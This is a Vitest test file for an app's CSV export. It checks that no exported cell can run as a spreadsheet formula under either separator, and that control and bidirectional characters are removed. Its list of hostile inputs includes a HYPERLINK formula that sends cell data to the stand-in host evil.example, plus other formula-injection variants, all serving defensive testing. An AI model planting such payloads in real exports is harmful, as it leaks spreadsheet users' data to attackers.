/**
 * Exported CSV is safe to open whatever separator the spreadsheet splits on: it follows the
 * computer's list separator, not the file's language, so an English (',') file may be split
 * on ';' and a German (';') one on ','. Each file is parsed here the way spreadsheets do
 * (RFC 4180 quotes at the start of a cell; a quote later in a cell is a plain character) with
 * both separators, and no cell may start with a formula character unguarded.
 */
import { describe, expect, it } from 'vitest';
import type { ActivityEntry } from '../../../electron/shared';
import { activityToCsv, csvCell, CSV_BOM } from '../../../renderer/src/lib/visit/csv';
import { activityEntry } from '../../helpers/activity-entry';

/** One line of CSV into cells, as a spreadsheet splitting on `separator` reads it. */
const cellsOf = (line: string, separator: string): string[] => {
  const cells: string[] = [];
  let at = 0;
  for (;;) {
    let cell = '';
    if (line[at] === '"') {
      at++;
      while (at < line.length) {
        if (line[at] === '"' && line[at + 1] === '"') {
          cell += '"';
          at += 2;
        } else if (line[at] === '"') {
          at++;
          break;
        } else cell += line[at++];
      }
    }
    while (at < line.length && line[at] !== separator) cell += line[at++];
    cells.push(cell);
    if (at >= line.length) return cells;
    at++;
  }
};

/** A cell a spreadsheet would run as a formula: = + - @ (or their full-width forms) first,
 * after any spaces, tabs or line breaks it skips. */
const FORMULA = /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

const entry = (locationName: string, detail = 'Installed'): ActivityEntry =>
  activityEntry({ locationId: 'loc_1', locationName, detail });

const HOSTILE = [
  'Shop;=HYPERLINK("http://evil.example/?"&A1,"Open")',
  'Shop,=1+1',
  'Shop; =1+1',
  'Shop,"=1+1"',
  '=1+1',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '@SUM(A1)',
  '+1',
  '-1',
  'Shop;\u3000＝1+1',
  'Shop\n=1+1',
  '\u202E=1+1',
];

describe('CSV exports and formula injection', () => {
  it.each([
    ['an English file', 'en-US', ','],
    ['a German file', 'de-DE', ';'],
  ])('%s: no cell starts a formula, split on "," or ";"', (_, locale, own) => {
    const csv = activityToCsv(
      HOSTILE.map((name) => entry(name, name)),
      {
        organization: '=Org',
        cities: new Map([['loc_1', '-City']]),
        locale,
        offsetMinutes: () => 0,
      },
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    const lines = csv.slice(1).split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(HOSTILE.length + 1);
    for (const separator of [',', ';']) {
      for (const line of lines) {
        const live = cellsOf(line, separator).filter((cell) => FORMULA.test(cell));
        expect(live, `split on "${separator}": ${line}`).toEqual([]);
      }
    }
    // With its own separator, each row keeps the header's columns.
    const columns = cellsOf(lines[0]!, own).length;
    expect(columns).toBeGreaterThanOrEqual(8);
    for (const line of lines) expect(cellsOf(line, own), line).toHaveLength(columns);
  });

  it('quotes every cell, and keeps ordinary text as it is', () => {
    expect(csvCell('Markt München')).toBe('"Markt München"');
    expect(csvCell(12)).toBe('"12"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell('Zähler 1,5 m')).toBe('"Zähler 1,5 m"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
  });

  it('removes bidirectional controls and control characters from text', () => {
    // U+202E would show "exe.txt" as "txt.exe"; isolates and marks likewise reorder text.
    expect(csvCell('Shop\u202Eexe.txt\u202C')).toBe('"Shopexe.txt"');
    expect(csvCell('a\u2066b\u2069c\u200Ed\u200F')).toBe('"abcd"');
    expect(csvCell('two\r\nlines\tand\u0007bell\u0085')).toBe('"two lines and bell "');
  });
});
